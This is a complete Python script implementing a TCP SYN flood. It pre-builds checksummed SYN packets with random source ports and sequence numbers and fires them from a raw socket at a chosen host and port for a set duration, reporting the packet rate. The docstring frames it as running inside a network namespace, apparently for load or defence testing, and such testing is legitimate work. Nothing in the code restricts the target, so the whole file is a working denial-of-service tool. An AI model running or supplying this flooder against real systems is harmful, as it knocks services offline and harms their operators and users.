# SPDX-License-Identifier: BSD-3-Clause
"""TCP SYN flood: SYNs from SRC with random source ports and sequence
numbers (seeded: 4096 pre-built SYNs, cycled, so the per-packet cost is
one sendto) to DST:PORT through a raw socket, as fast as python goes, for
SECS seconds. Prints "sent=N pps=N".

Sends only to DST, from SRC (an address of the namespace it runs in; run
as root).

usage: python3 tcp_synflood.py SRC DST PORT SECS
"""
import argparse
import random
import socket
import struct
import time

from pkt_lib import csum


def syns(src, dst, port, n):
    """n SYN segments (TCP header and options, checksummed) from src."""
    sa, da = socket.inet_aton(src), socket.inet_aton(dst)
    rnd = random.Random(4242)
    pkts = []
    for _ in range(n):
        sport = rnd.randrange(1024, 65536)
        # MSS 1460, NOP NOP SACK-permitted, NOP window scale 7: 12 bytes
        opt = struct.pack("!BBH", 2, 4, 1460) + b"\x01\x01\x04\x02" + b"\x01\x03\x03\x07"
        assert len(opt) % 4 == 0
        hdr = struct.pack("!HHIIBBHHH", sport, port, rnd.getrandbits(32), 0,
                          (5 + len(opt) // 4) << 4, 0x02, 64240, 0, 0) + opt
        ph = sa + da + struct.pack("!BBH", 0, 6, len(hdr))
        c = csum(ph + hdr)
        pkts.append(hdr[:16] + struct.pack("!H", c) + hdr[18:])
    return pkts


def synflood(src, dst, port, secs):
    """Send the SYNs round and round for secs seconds; print the rate."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.bind((src, 0))
    pkts = syns(src, dst, port, 4096)
    t0 = time.time()
    end, n, addr = t0 + secs, 0, (dst, 0)
    while time.time() < end:
        for p in pkts[(n % 4096):(n % 4096) + 256]:
            try:
                s.sendto(p, addr)
            except (BlockingIOError, OSError):
                pass
            n += 1
    dt = time.time() - t0
    print("sent=%d pps=%d" % (n, n / dt))


def main():
    ap = argparse.ArgumentParser(description="TCP SYNs as fast as python goes.")
    ap.add_argument("src", help="source address (bound)")
    ap.add_argument("dst", help="destination address")
    ap.add_argument("port", type=int, help="destination port")
    ap.add_argument("secs", type=float, help="how long")
    a = ap.parse_args()
    synflood(a.src, a.dst, a.port, a.secs)


if __name__ == "__main__":
    main()
